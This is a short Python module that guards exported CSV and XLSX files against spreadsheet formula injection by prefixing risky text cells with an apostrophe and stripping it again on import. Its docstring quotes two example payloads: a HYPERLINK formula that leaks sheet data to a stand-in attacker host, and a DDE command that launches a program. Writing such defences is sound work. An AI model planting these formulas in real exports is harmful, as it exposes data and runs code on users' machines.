"""Spreadsheet formula injection (CSV injection): one rule for every .csv and .xlsx we write.

A text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is taken by Excel,
LibreOffice and WPS as a formula (`=HYPERLINK("http://evil.example/?"&A1,"x")` leaks the
sheet, `=cmd|' /C calc'!A0` runs a program). Following OWASP's CSV-injection guidance, such a
cell is written with a leading apostrophe, so it is shown as the text it is. Only text is
touched: numbers, amounts and dates stay numbers (a negative amount is still a number).

The registry's exports are read back by its imports, which take the apostrophe off again
(`unescape`), so an exported file imports unchanged.
"""

from __future__ import annotations

from typing import TypeVar

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

T = TypeVar("T")


def escape(value: T) -> T | str:
    """`value` with an apostrophe in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return QUOTE + value
    return value


def unescape(text: str) -> str:
    """What `escape` wrote, read back: the apostrophe it added taken off (nothing else)."""
    if text.startswith(QUOTE) and text[1:].startswith(TRIGGERS):
        return text[1:]
    return text
